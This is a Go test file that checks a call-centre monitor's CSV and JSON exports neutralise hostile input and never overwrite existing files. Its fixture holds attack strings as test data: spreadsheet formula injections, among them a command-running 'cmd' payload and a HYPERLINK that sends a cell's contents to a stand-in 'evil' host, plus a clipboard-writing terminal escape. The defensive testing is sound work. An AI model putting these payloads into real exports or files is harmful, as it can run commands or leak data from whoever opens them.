package export

import (
	"bytes"
	"encoding/csv"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/go-json-experiment/json"
	"github.com/go-json-experiment/json/jsontext"

	"github.com/deskwatch/deskwatch/model"
)

// hostile is a row whose strings carry what an attacker would send: terminal escapes (OSC 52
// clipboard write, screen clear), C1 controls, bidi overrides, zero-width characters, line
// separators, invalid UTF-8, spreadsheet formulas, and unknown members with such names and values.
func hostile() []*model.Row {
	dir := model.Direction("inbound")
	svc := "@SUM(1+1)*cmd|' /C calc'!A0"
	d := &model.Interaction{ID: "=HYPERLINK(\"http://evil/?\"&A1,\"x\")", Type: "voice", State: "talking",
		Subject:       "osc52 \x1b]52;c;ZXZpbA==\x07clear\x1b[2J c1\u009b31m nel\u0085 \u202egnp.exe z\u200bw\u2028x \xff",
		CallDirection: &dir, Service: &svc, ANI: new(string),
		CallParties: []model.CallParty{{Name: "+cmd|' /C calc'!A0"}},
		Extra: map[string]jsontext.Value{"k\x1b]0;t": jsontext.Value(`"v\u001b[2J"`),
			"k": jsontext.Value("\"bad \xff\xfe utf8\"")}}
	*d.ANI = "+12065550148"
	return []*model.Row{{AgentID: "-agent", Data: d, FirstSeen: t0}}
}

func TestCSVNeutralizesFormulas(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	if err := WriteCSV(&b, hostile(), t0); err != nil {
		t.Fatal(err)
	}
	checkClean(t, b.String())
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("csv %v %q", err, recs)
	}
	rec := map[string]string{}
	for i, name := range header() {
		rec[name] = recs[1][i]
	}
	for name, want := range map[string]string{
		"agent":   "'-agent",
		"id":      "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
		"service": "'@SUM(1+1)*cmd|' /C calc'!A0",
		"parties": "1 +cmd|' /C calc'!A0",
		"number":  "+12065550148", // a plain number: a spreadsheet reads it as a number, never a formula
		"subject": "osc52 clear c1 nel  gnp.exe zw x \uFFFD",
	} {
		if rec[name] != want {
			t.Errorf("%s = %q, want %q", name, rec[name], want)
		}
	}
	for in, want := range map[string]bool{"-5": false, "-0.5": false, "+1-206": true, "  =1": true,
		"＝1+1": true, "-": true, "a=b": false, "": false, "1+1": false,
		// Leading Unicode spaces, and the small, full-width and minus-sign forms (the attacker's re-test).
		"\u00a0=1": true, "\u3000=1": true, "\u2003=1": true, "\ufeff=1": true, "\u2009\u00a0@x": true,
		"﹢1": true, "﹣1": true, "﹫x": true, "﹦1": true, "−1": true, "＋1": true, " +12065550148": false,
		"\u00a0-5": false, "\u00a0a=b": false} {
		if got := isFormula(in); got != want {
			t.Errorf("isFormula(%q) = %v, want %v", in, got, want)
		}
	}
}

func TestJSONSanitizesEveryString(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	if err := WriteJSON(&b, hostile(), t0); err != nil {
		t.Fatalf("invalid UTF-8 in an unknown member broke the export: %v", err)
	}
	out := b.String()
	checkClean(t, out)
	var got []struct {
		Interaction map[string]any `json:"interaction"`
	}
	if err := json.Unmarshal(b.Bytes(), &got, jsontext.AllowDuplicateNames(true)); err != nil {
		t.Fatalf("json: %v\n%s", err, out)
	}
	in := got[0].Interaction
	if in["subject"] != "osc52 clear c1 nel  gnp.exe zw x \uFFFD" || in["k"] != "bad \uFFFD\uFFFD utf8" {
		t.Errorf("interaction %q", in)
	}
	if !strings.Contains(out, `"k<U+001B>]0;t": "v"`) {
		t.Errorf("unknown member's name not sanitized: %s", out)
	}
}

// checkClean fails if out has a control character, an escape, a bidi override, a zero-width
// character, a line separator or invalid UTF-8 (newlines between records aside).
func checkClean(t *testing.T, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Fatalf("invalid UTF-8 in %q", out)
	}
	for _, r := range out {
		if (r < 0x20 && r != '\n') || r == 0x7f || (r >= 0x80 && r < 0xa0) || r == 0x202e || r == 0x200b ||
			r == 0x2028 {
			t.Fatalf("%U reached the output: %q", r, out)
		}
	}
}

// writeRows writes rows in format to a new file named name in dir, as the monitor's export does.
func writeRows(dir, name, format string, rows []*model.Row, now time.Time) (string, error) {
	return WriteFile(dir, name, func(w io.Writer) error { return Write(w, format, rows, now) })
}

// TestWriteFileWhole: an export appears whole or not at all, and never replaces a file.
func TestWriteFileWhole(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	path, err := writeRows(dir, "x.json", "json", hostile(), t0)
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil || !jsontext.Value(data).IsValid() || !bytes.HasSuffix(data, []byte("]\n")) {
		t.Fatalf("export not whole (%v): %q", err, data)
	}
	if st, _ := os.Stat(path); st.Mode().Perm() != 0o644 {
		t.Errorf("mode %v, want 0644", st.Mode().Perm())
	}
	if p, err := writeRows(dir, "x.json", "csv", hostile(), t0); err != nil || filepath.Base(p) != "x-2.json" {
		t.Errorf("a second export under a taken name: %s, %v; want x-2.json", p, err)
	}
	if _, err := writeRows(dir, "y.xml", "xml", hostile(), t0); err == nil {
		t.Error("unknown format accepted")
	}
	ents, _ := os.ReadDir(dir)
	if len(ents) != 2 || ents[0].Name() != "x-2.json" || ents[1].Name() != "x.json" {
		t.Errorf("files left in the export directory: %v", ents)
	}
	if again, _ := os.ReadFile(filepath.Join(dir, "x.json")); !bytes.Equal(again, data) {
		t.Error("the existing export changed")
	}
}

// A newcomer's report: an export into a folder that is not there (or not writable) named the
// temporary file it could not create (".x.csv.394818025.tmp"). It names the folder and why.
func TestWriteFileNamesTheFolder(t *testing.T) {
	t.Parallel()
	dir := filepath.Join(t.TempDir(), "gone")
	_, err := WriteFile(dir, "x.csv", func(io.Writer) error { return nil })
	if want := "cannot write a file in " + dir + ": no such file or directory"; err == nil || err.Error() != want {
		t.Errorf("err %v, want %s", err, want)
	}
}

// TestWriteFileNeverReplaces: a second export under a taken name (two in one second) is named
// NAME-2.EXT, then NAME-3.EXT; the files already there are left alone, no temporary file stays,
// and once every name tried is taken it fails saying so.
func TestWriteFileNeverReplaces(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	write := func(s string) func(io.Writer) error {
		return func(w io.Writer) error { _, err := io.WriteString(w, s); return err }
	}
	for i, want := range []string{"x.csv", "x-2.csv", "x-3.csv"} {
		path, err := WriteFile(dir, "x.csv", write(want))
		if err != nil || path != filepath.Join(dir, want) {
			t.Fatalf("export %d: %q, %v; want %s", i+1, path, err, want)
		}
	}
	for _, name := range []string{"x.csv", "x-2.csv", "x-3.csv"} {
		if b, err := os.ReadFile(filepath.Join(dir, name)); err != nil || string(b) != name {
			t.Errorf("%s holds %q (%v)", name, b, err)
		}
	}
	for i := 4; i <= maxNamesTried; i++ {
		if _, err := WriteFile(dir, "x.csv", write("")); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := WriteFile(dir, "x.csv", write("")); err == nil || !strings.Contains(err.Error(), "x.csv and 99 more names like it are taken") {
		t.Errorf("with every name taken: %v", err)
	}
	entries, _ := os.ReadDir(dir)
	if len(entries) != maxNamesTried {
		t.Errorf("%d files in the folder, want %d (no temporary one left)", len(entries), maxNamesTried)
	}
}

// A row without a state (the floor's total, an agent none was reported for) has no time in
// state: IN STATE is blank, not 0:00.
func TestInStateIsBlankWithoutAState(t *testing.T) {
	t.Parallel()
	col := AgentColumns[slices.IndexFunc(AgentColumns, func(c FigureColumn[model.AgentFigures]) bool { return c.Title == "IN STATE" })]
	if got := col.Text(model.AgentFigures{Agent: FloorRow}); got != "" {
		t.Errorf("the floor row's IN STATE %q, want blank", got)
	}
	if got := col.Text(model.AgentFigures{Agent: "a", State: model.AgentReady, InState: 5 * time.Second}); got != "0:05" {
		t.Errorf("an agent's IN STATE %q, want 0:05", got)
	}
}
